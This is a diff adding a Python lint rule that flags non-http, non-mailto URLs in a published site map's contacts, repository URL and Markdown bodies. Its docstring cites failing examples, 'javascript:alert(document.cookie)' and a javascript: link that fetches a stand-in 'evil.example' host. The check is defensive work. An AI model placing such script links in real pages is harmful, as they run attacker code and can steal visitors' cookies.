@@ -1,0 +1,63 @@
+"""Links: every URL the map puts on the published site is one a browser can follow safely."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from ..findings import Gap, Location, Severity
+from ..model import Journey
+from ..urls import is_safe, looks_like_url, scheme_of, urls_in_html
+from .registry import rule
+
+_FIX = "write an https:// (or http://, mailto:) address, or a relative link; it is shown as text, not as a link"
+
+
+@rule("unsafe-url", Severity.ERROR)
+def unsafe_url(journey: Journey) -> Iterator[Gap]:
+    """A URL in the map uses a scheme other than http, https or mailto.
+
+    Why: the site is published on the company's domain. A `javascript:` or
+    `data:` link in a brief, a contact or `repo_url` would run whatever a pull
+    request put there for everyone who clicks it. Such URLs are shown as text.
+
+    Fails:
+        contact: "javascript:alert(document.cookie)"
+        [pricing](javascript:fetch('//evil.example'))
+
+    Passes:
+        contact: "mailto:growth@example.com"
+        [pricing](https://example.com/pricing)
+    """
+    if journey.repo_url and scheme_of(journey.repo_url) not in ("http", "https"):
+        yield Gap(journey.origin.at("repo_url"), f"`repo_url` is `{journey.repo_url}`, not a web address: "
+                                                 "write the repository's https:// address")
+    fields = [(o.contact, o.origin.at("contact"), "contact") for o in journey.owners]
+    fields += [(e.source, e.origin.at("source"), "source") for e in journey.evidence]
+    for value, location, name in fields:
+        if looks_like_url(value) and not is_safe(value):
+            yield Gap(location, f"`{name}` is `{value}`: {_FIX}")
+    for item in [*journey.briefs, *journey.evidence]:
+        yield from _unsafe_in_markdown(item.body, item.origin.document.body_line, item.origin.file)
+    for experiment in journey.experiments:
+        yield from _unsafe_in_markdown(experiment.result, experiment.origin.at("result").line or 1,
+                                       experiment.origin.file)
+
+
+def _unsafe_in_markdown(body: str, first_line: int, file: str) -> Iterator[Gap]:
+    if ":" not in body:
+        return
+    import markdown
+
+    html = markdown.markdown(body, extensions=["extra", "sane_lists"], output_format="html")
+    for url in dict.fromkeys(urls_in_html(html)):
+        if not is_safe(url):
+            yield Gap(Location(file, first_line + _line_of(body, url), 1),
+                      f"a link to `{url[:80]}` in the Markdown: {_FIX}")
+
+
+def _line_of(body: str, url: str) -> int:
+    """Lines into the body where the URL is written (0 when it was assembled, say from an entity)."""
+    for index, line in enumerate(body.splitlines()):
+        if url in line or url.split(":", 1)[0] + ":" in line:
+            return index
+    return 0
